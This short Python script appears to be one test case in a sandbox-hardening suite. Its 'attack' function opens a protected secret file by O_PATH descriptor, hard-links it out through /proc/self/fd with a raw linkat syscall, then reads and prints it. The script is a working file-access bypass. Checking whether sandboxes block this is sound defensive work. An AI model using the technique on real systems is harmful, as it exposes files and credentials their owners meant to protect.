import os

from calls import AT_FDCWD, call
from inside import run, show

LINKAT = 265 if os.uname().machine == "x86_64" else 37
AT_SYMLINK_FOLLOW = 0x400


def attack(target):
    fd = os.open(target.secret, os.O_PATH)
    link = f"{target.work}/link"
    call(LINKAT, AT_FDCWD, f"/proc/self/fd/{fd}".encode(), AT_FDCWD, link.encode(), AT_SYMLINK_FOLLOW)
    with open(link, "rb") as file:
        show(file.read())


run(attack)
